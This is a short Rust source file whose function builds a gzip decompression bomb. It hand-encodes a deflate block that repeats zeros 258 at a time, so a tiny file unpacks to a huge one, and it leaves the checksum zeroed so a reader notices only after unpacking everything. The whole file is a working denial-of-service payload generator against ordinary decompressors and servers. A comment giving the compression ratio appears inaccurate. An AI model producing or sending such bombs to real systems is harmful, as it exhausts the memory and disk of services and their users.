//! A gzip file that unpacks to far more than it is.

/// Zeros that one step of the deflate format repeats, at most (RFC 1951, section 3.2.5).
const STEP: u32 = 258;

/// The compressed form of about so many zeros: an eighteenth of a percent of them (RFC 1952).
pub fn zeros(count: u32) -> Vec<u8> {
    let mut bits = Bits::default();
    // One block, the last, with the fixed codes (RFC 1951, sections 3.2.3 and 3.2.6).
    bits.push(0b1, 1);
    bits.push(0b01, 2);
    // A literal zero: code 00110000; then "the byte before, 258 times": 11000101, distance 00000.
    bits.push_code(0b0011_0000, 8);
    let steps = count / STEP;
    for _ in 0..steps {
        bits.push_code(0b1100_0101, 8);
        bits.push_code(0, 5);
    }
    // The end: 0000000.
    bits.push_code(0, 7);
    let mut file = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255];
    file.extend(bits.bytes());
    // No checksum: a reader finds out at the end, when it has unpacked everything.
    file.extend([0; 4]);
    file.extend((steps * STEP + 1).to_le_bytes());
    file
}

/// Bits, the first one lowest.
#[derive(Default)]
struct Bits {
    whole: Vec<u8>,
    last: u8,
    used: u8,
}

impl Bits {
    fn push(&mut self, bits: u16, count: u8) {
        for at in 0..count {
            self.last |= u8::from(bits >> at & 1 == 1) << self.used;
            self.used += 1;
            if self.used == 8 {
                self.whole.push(std::mem::take(&mut self.last));
                self.used = 0;
            }
        }
    }

    /// Codes come with their highest bit first.
    fn push_code(&mut self, code: u16, count: u8) {
        for at in (0..count).rev() {
            self.push(code >> at & 1, 1);
        }
    }

    fn bytes(mut self) -> Vec<u8> {
        if self.used > 0 {
            self.whole.push(self.last);
        }
        self.whole
    }
}
